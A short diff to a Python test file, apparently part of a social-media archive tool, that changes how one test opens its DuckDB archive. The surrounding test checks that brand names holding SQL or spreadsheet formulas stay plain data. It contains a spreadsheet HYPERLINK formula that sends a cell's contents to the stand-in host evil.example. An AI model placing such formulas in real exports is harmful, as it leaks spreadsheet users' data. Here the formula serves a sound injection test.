@@ -21,6 +21,7 @@ from kwo.errors import UsageError
 from kwo.ingest import ingest
 from kwo.metrics import build_report
 from kwo.report.tables import csv_cell, csv_text
+from kwo.engine.duckdb import connect
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -225,7 +226,7 @@ def test_brand_name_with_sql_is_data(case):
     names = {b["handle"]: b["name"] for b in json.loads(out)["brands"]}
     assert names["ing"] == INJECTION and names["kpn"] == FORMULAS[0]
     assert _snapshot(case["archive"]) == before
-    con = Archive(case["archive"]).connect()
+    con = connect(case["archive"])
     assert con.execute("SELECT count(*) FROM tweets").fetchone() == (7,)
 
 
